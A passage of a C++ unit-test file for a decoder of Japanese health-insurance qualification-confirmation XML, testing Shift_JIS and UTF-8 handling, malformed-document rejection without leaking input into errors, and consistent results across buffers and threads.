  EXPECT_EQ(Reason(DecodeQualificationResult("\xEF\xBB\xBF\xEF\xBB\xBF" +
                                             Golden("siquc01res_basic.utf8.xml"))
                       .status()),
            "ONSHI_DOCUMENT_MALFORMED");
}

TEST(EncodingTest, HalfWidthKanaInShiftJisBecomeHalfWidthKanaInUtf8) {
  absl::StatusOr<v1::QualificationResult> result =
      DecodeQualificationResult(Golden("siquc01res_face.sjis.xml"));
  ASSERT_TRUE(result.ok()) << result.status();
  // ｼｹﾝ ﾊﾅｺ = U+FF7C U+FF79 U+FF9D U+0020 U+FF8A U+FF85 U+FF7A.
  EXPECT_EQ(result->records(0).name_kana(),
            "\xEF\xBD\xBC\xEF\xBD\xB9\xEF\xBE\x9D \xEF\xBE\x8A\xEF\xBE\x85\xEF\xBD\xBA");
  // The file holds them as single bytes 0xBC 0xB9 0xDD 0x20 0xCA 0xC5 0xBA.
  EXPECT_THAT(Golden("siquc01res_face.sjis.xml"), HasSubstr("\xBC\xB9\xDD \xCA\xC5\xBA"));
}

TEST(EncodingTest, DeclaredEncodingNamesAreMatchedCaseInsensitively) {
  const std::string sjis = Golden("siquc01req_basic.sjis.xml");
  for (absl::string_view name :
       {"SJIS", "shift_jis", "Shift-JIS", "CP932", "cp932", "MS932", "Windows-31J"}) {
    EXPECT_TRUE(DecodeQualificationRequest(WithDeclaredEncoding(sjis, "Shift_JIS", name)).ok())
        << name;
  }
  const std::string utf8 = Golden("siquc01req_basic.utf8.xml");
  for (absl::string_view name : {"utf-8", "UTF8"}) {
    EXPECT_TRUE(DecodeQualificationRequest(WithDeclaredEncoding(utf8, "UTF-8", name)).ok()) << name;
  }
  for (absl::string_view name : {"EUC-JP", "ISO-2022-JP", "UTF-16", "ISO-8859-1", "x"}) {
    EXPECT_EQ(
        Reason(DecodeQualificationRequest(WithDeclaredEncoding(utf8, "UTF-8", name)).status()),
        "ONSHI_DOCUMENT_ENCODING")
        << name;
  }
}

// 200 generated names: Shift_JIS round trips exactly; the same bytes under the wrong label are
// always refused, never read as mojibake.
TEST(EncodingTest, GeneratedNamesNeverBecomeMojibake) {
  const std::vector<std::string> alphabet = {
      "試", "験", "花", "子", "髙", "﨑", "德", "〓", "ｱ",  "ﾃ",  "ｽ",  "ﾄ",  "ﾟ", "ﾞ",
      "ｰ",  "あ", "ン", "ヴ", "ー", "　", "①",  "Ⅲ",  "㈱", "～", "－", "＼", "A", "z",
      "0",  " ",  "々", "〆", "ゞ", "纊", "褜", "鍈", "銈", "蓜", "俉", "炻"};
  uint32_t seed = 12345;
  auto next = [&seed] {
    seed = seed * 1103515245u + 12345u;
    return (seed >> 16) & 0x7FFF;
  };
  for (int i = 0; i < 200; ++i) {
    std::string name;
    const int length = 1 + static_cast<int>(next() % 6);
    for (int j = 0; j < length; ++j) name += alphabet[next() % alphabet.size()];
    SCOPED_TRACE(name);
    v1::QualificationResult result;
    result.add_records()->set_name(name);
    absl::StatusOr<std::string> sjis = EncodeQualificationResult(result, {Encoding::kShiftJis});
    ASSERT_TRUE(sjis.ok()) << sjis.status();
    absl::StatusOr<v1::QualificationResult> back = DecodeQualificationResult(*sjis);
    ASSERT_TRUE(back.ok()) << back.status();
    EXPECT_EQ(back->records(0).name(), name);
    absl::StatusOr<std::string> utf8 = EncodeQualificationResult(result, {Encoding::kUtf8});
    ASSERT_TRUE(utf8.ok());
    const bool ascii = std::all_of(name.begin(), name.end(),
                                   [](char c) { return static_cast<unsigned char>(c) < 0x80; });
    std::string sjis_as_utf8 = WithDeclaredEncoding(*sjis, "Shift_JIS", "UTF-8");
    std::string utf8_as_sjis = WithDeclaredEncoding(*utf8, "UTF-8", "Shift_JIS");
    if (ascii) continue;  // ASCII reads the same either way (and then only the code disagrees)
    EXPECT_EQ(Reason(DecodeQualificationResult(sjis_as_utf8).status()), "ONSHI_DOCUMENT_ENCODING");
    EXPECT_EQ(Reason(DecodeQualificationResult(utf8_as_sjis).status()), "ONSHI_DOCUMENT_ENCODING");
  }
}

// ---------------------------------------------------------------------------------------------
// A9: error texts never carry input. The canary patient is "カナリア太郎", insurer 99999999.

struct Broken {
  std::string name;
  std::string document;
};

std::vector<Broken> CanaryDocuments() {
  const std::string base = Golden("siquc01res_basic.utf8.xml");
  const std::string sjis_base = Golden("siquc01res_basic.sjis.xml");
  const std::string kana = "カナリア太郎";
  auto at_name = [&](absl::string_view replacement) {
    return ReplaceOnce(base, "<Name>試験　花子</Name>", replacement);
  };
  std::vector<Broken> docs = {
      {"EnumOutOfRange", ReplaceOnce(base, "<QualificationValidity>1<",
                                     "<QualificationValidity>" + kana + "99999999<")},
      {"IntegerJunk",
       ReplaceOnce(base, "</ResultOfQualificationConfirmation>",
                   "<SpecificDiseasesCertificateList><SpecificDiseasesCertificateInfo>"
                   "<SpecificDiseasesSelfPay>99999999" +
                       kana +
                       "</SpecificDiseasesSelfPay></SpecificDiseasesCertificateInfo>"
                       "</SpecificDiseasesCertificateList></ResultOfQualificationConfirmation>")},
      {"MismatchedEndTag", at_name("<Name>" + kana + "</Nam99999999>")},
      {"UnclosedAfterCanary", ReplaceOnce(base, "</XmlMsg>\n", "<Name>" + kana + "99999999")},
      {"UndefinedEntity", at_name("<Name>" + kana + "&" + kana + ";99999999</Name>")},
      {"BareAmpersand", at_name("<Name>" + kana + " & 99999999</Name>")},
      {"InvalidUtf8InsideCanary", at_name("<Name>カナリア\xC0\xAF太郎99999999</Name>")},
      {"CanaryElementInsideValue", at_name("<Name><" + kana + ">99999999</" + kana + "></Name>")},
      {"CanaryRootElement", absl::StrCat(kDecl, "<", kana, ">99999999</", kana, ">\n")},
      {"DuplicateCanaryValue",
       ReplaceOnce(
           base, "<InsurerNumber>06139992</InsurerNumber>",
           "<InsurerNumber>99999999</InsurerNumber><InsurerNumber>" + kana + "</InsurerNumber>")},
      {"DoctypeWithCanary",
       absl::StrCat(kDecl, "<!DOCTYPE ", kana, " [<!ENTITY x \"99999999\">]>\n", "<XmlMsg/>")},
      {"AttributeWithLessThan",
       ReplaceOnce(base, "<XmlMsg>", "<XmlMsg a=\"" + kana + "<99999999\">")},
      {"TooDeepCanaryElements", ReplaceOnce(base, "<Name>試験　花子</Name>",
                                            [&] {
                                              std::string s;
                                              for (int i = 0; i < 40; ++i) s += "<" + kana + ">";
                                              s += "99999999";
                                              for (int i = 0; i < 40; ++i) s += "</" + kana + ">";
                                              return s;
                                            }())},
      {"TextOutsideRoot", base + kana + "99999999<!-- -->"},
      {"TrailingText", base + kana + "99999999"},
      {"UnsupportedEncodingName",
       ReplaceOnce(base, "encoding=\"UTF-8\"", "encoding=\"" + kana + "99999999\"")},
      {"MalformedDeclaration",
       ReplaceOnce(base, "version=\"1.0\"", "version=\"" + kana + "99999999\"")},
      {"CharacterCodeContradiction",
       ReplaceOnce(ReplaceOnce(base, "<CharacterCodeIdentifier>0<", "<CharacterCodeIdentifier>1<"),
                   "試験　花子", kana + "99999999")},
      {"ShiftJisInvalidByteAfterCanary",
       ReplaceOnce(sjis_base, ToCp932("<Name>試験　花子</Name>"),
                   ToCp932("<Name>" + kana + "99999999") + "\x85\x40" + "</Name>")},
      {"ShiftJisDeclaredUtf8Bytes",
       ReplaceOnce(ReplaceOnce(at_name("<Name>" + kana + "99999999</Name>"), "encoding=\"UTF-8\"",
                               "encoding=\"Shift_JIS\""),
                   "<CharacterCodeIdentifier>0<", "<CharacterCodeIdentifier>1<")},
      {"BadCharacterReference", at_name("<Name>" + kana + "&#x0;99999999</Name>")},
      {"ControlCharacter", at_name("<Name>" + kana + "\x07" + "99999999</Name>")},
  };
  return docs;
}

TEST(CanaryTest, ErrorsAndOutputsCarryNoByteOfTheInput) {
  const std::vector<std::string> canaries = {"カナリア",          "太郎",          "99999999",
                                             ToCp932("カナリア"), ToCp932("太郎"), "ｶﾅﾘｱ"};
  for (const Broken& broken : CanaryDocuments()) {
    SCOPED_TRACE(broken.name);
    ::testing::internal::CaptureStderr();
    ::testing::internal::CaptureStdout();
    absl::StatusOr<v1::QualificationResult> result = DecodeQualificationResult(broken.document);
    absl::StatusOr<v1::QualificationRequestDocument> request =
        DecodeQualificationRequest(broken.document);
    const std::string out =
        ::testing::internal::GetCapturedStdout() + ::testing::internal::GetCapturedStderr();
    ASSERT_FALSE(result.ok());
    EXPECT_EQ(out, "");
    std::string visible = VisibleText(result.status());
    if (!request.ok()) visible += VisibleText(request.status());
    for (const std::string& canary : canaries) {
      EXPECT_THAT(visible, Not(HasSubstr(canary))) << visible;
    }
  }
}

TEST(CanaryTest, ErrorsNameTheElementPathAndLine) {
  std::string doc = ReplaceOnce(Golden("siquc01res_rich.utf8.xml"),
                                "<SpecificDiseasesSelfPay>20000<", "<SpecificDiseasesSelfPay>2万<");
  absl::Status status = DecodeQualificationResult(doc).status();
  EXPECT_EQ(Reason(status), "ONSHI_DOCUMENT_INVALID_VALUE");
  EXPECT_THAT(
      status.message(),
      HasSubstr("element XmlMsg/MessageBody/ResultList/ResultOfQualificationConfirmation[1]/"
                "SpecificDiseasesCertificateList/SpecificDiseasesCertificateInfo[2]/"
                "SpecificDiseasesSelfPay (line 75)"));
  EXPECT_THAT(status.message(), Not(HasSubstr("万")));
}

// ---------------------------------------------------------------------------------------------
// A2: the same bytes through different buffers give the same outcome.
//
// The codec has one entry point, a whole in-memory document (no push/chunked parser exists, so
// libxml2's chunked variant has no counterpart here). What can differ between callers is the
// buffer: an exact heap copy (ASan sees any read past its end), a view into a larger buffer whose
// neighbouring bytes are hostile (any read past the view changes the outcome), odd alignment, a
// file read back from disk (the transport's path), and a reused message object.

struct Outcome {
  absl::StatusCode code;
  std::string message;
  std::string serialized;
};

Outcome Decode(absl::string_view bytes, v1::QualificationResult* message) {
  absl::Status status = DecodeDocument(bytes, {}, message);
  std::string serialized;
  if (status.ok()) message->SerializeToString(&serialized);
  return {status.code(), std::string(status.message()), serialized};
}

std::vector<std::string> DifferentialInputs() {
  std::vector<std::string> inputs;
  for (const char* stem :
       {"siquc01req_basic", "siquc01req_kokuho", "siquc01res_basic", "siquc01res_rich",
        "siquc01res_not_found", "siquc01res_failed", "siquc01res_face", "siquc01res_medical_aid"}) {
    inputs.push_back(Golden(absl::StrCat(stem, ".utf8.xml")));
    inputs.push_back(Golden(absl::StrCat(stem, ".sjis.xml")));
  }
  for (const Broken& broken : CanaryDocuments()) inputs.push_back(broken.document);
  const std::string base = Golden("siquc01res_basic.utf8.xml");
  inputs.push_back(base.substr(0, base.size() / 2));  // truncated mid-document
  inputs.push_back(base.substr(0, base.size() - 2));  // truncated inside the last tag
  inputs.push_back(base.substr(0, base.size() - 1));  // without the final newline
  inputs.push_back(WithoutDeclaration(Golden("siquc01res_rich.sjis.xml")));
  inputs.push_back(NestedDocument(40));
  return inputs;
}

TEST(DifferentialTest, SameBytesThroughDifferentBuffersGiveTheSameOutcome) {
  const std::string garbage_before = "<XmlMsg><MessageHeader><SegmentOfResult>9<";
  const std::string garbage_after = std::string("</SegmentOfResult>&xxe;<!DOCTYPE x>") +
                                    "\xFF\x81" + std::string(1, '\0') +
                                    "<ErrorCode>LEAK</ErrorCode></MessageHeader></XmlMsg>";
  const std::string dir = ::testing::TempDir();
  int index = 0;
  for (const std::string& input : DifferentialInputs()) {
    SCOPED_TRACE(index);
    v1::QualificationResult message;
    const Outcome whole = Decode(input, &message);

    // Exact-size heap copy.
    std::unique_ptr<char[]> exact(new char[input.size() + 1]);
    std::memcpy(exact.get(), input.data(), input.size());
    v1::QualificationResult fresh;
    const Outcome heap = Decode(absl::string_view(exact.get(), input.size()), &fresh);

    // View into a larger buffer with hostile neighbours.
    const std::string framed = garbage_before + input + garbage_after;
    const Outcome view =
        Decode(absl::string_view(framed).substr(garbage_before.size(), input.size()), &fresh);

    // Every alignment.
    for (size_t shift = 1; shift < 8; ++shift) {
      std::string shifted(shift, '<');
      shifted += input;
      const Outcome aligned = Decode(absl::string_view(shifted).substr(shift), &fresh);
      EXPECT_EQ(aligned.code, whole.code);
      EXPECT_EQ(aligned.message, whole.message);
      EXPECT_EQ(aligned.serialized, whole.serialized);
    }

    // Written to a file and read back, as the transport reads answers.
    const std::string path = absl::StrCat(dir, "/onshi_differential_", getpid(), "_", index);
    {
      std::ofstream out(path, std::ios::binary);
      out.write(input.data(), static_cast<std::streamsize>(input.size()));
    }
    const Outcome file = Decode(ReadFileOrDie(path), &fresh);
    std::remove(path.c_str());

    // A message object still holding the previous document's data.
    const Outcome reused = Decode(input, &message);

    for (const Outcome* other : {&heap, &view, &file, &reused}) {
      EXPECT_EQ(other->code, whole.code);
      EXPECT_EQ(other->message, whole.message);
      EXPECT_EQ(other->serialized, whole.serialized);
    }
    EXPECT_THAT(view.message, Not(HasSubstr("LEAK")));
    ++index;
  }
}

TEST(DifferentialTest, ConcurrentDecodingGivesTheSameResultsAsSequential) {
  const std::vector<std::string> inputs = DifferentialInputs();
  std::vector<Outcome> expected;
  for (const std::string& input : inputs) {
    v1::QualificationResult message;
    expected.push_back(Decode(input, &message));
  }
  std::vector<std::thread> threads;
  std::vector<int> mismatches(4, 0);
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&, t] {
      for (int round = 0; round < 20; ++round) {
        for (size_t i = 0; i < inputs.size(); ++i) {
          v1::QualificationResult message;
          Outcome got = Decode(inputs[(i + static_cast<size_t>(t)) % inputs.size()], &message);
          const Outcome& want = expected[(i + static_cast<size_t>(t)) % inputs.size()];
          if (got.code != want.code || got.message != want.message ||
              got.serialized != want.serialized) {
            ++mismatches[t];
          }
        }
      }
    });
  }
  for (std::thread& thread : threads) thread.join();
  for (int t = 0; t < 4; ++t) EXPECT_EQ(mismatches[t], 0) << "thread " << t;
}

}  // namespace
}  // namespace onshi::oqs
